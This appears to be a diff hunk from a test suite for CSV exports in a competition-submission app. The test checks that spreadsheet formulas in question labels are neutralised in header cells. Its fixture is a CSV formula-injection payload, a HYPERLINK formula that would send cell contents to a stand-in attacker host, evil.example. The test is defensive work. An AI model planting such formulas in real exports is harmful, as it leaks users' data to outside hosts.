@@ -184,7 +184,7 @@ describe('CSV exports', () => {
   it('neutralise formulas in header cells (question labels become headers) as in data cells', async () => {
     const label = '=HYPERLINK("https://evil.example/?leak="&A2,"Budget")';
     const c = await openCompetition(h, { title: 'Formula headers', questions: [{ id: 'budget', label, required: false, maxLength: 200 }] });
-    const csv = await h.call('GET', `/api/competitions/${c.id}/submissions.csv`, people.organiser);
+    const csv = await h.exportFile(people.organiser, c.id, 'submissions.csv');
     expect(csv.status).toBe(200);
     const [header] = parse(csv.text, { bom: true }) as string[][];
     expect(header).toContain(`'${label}`);
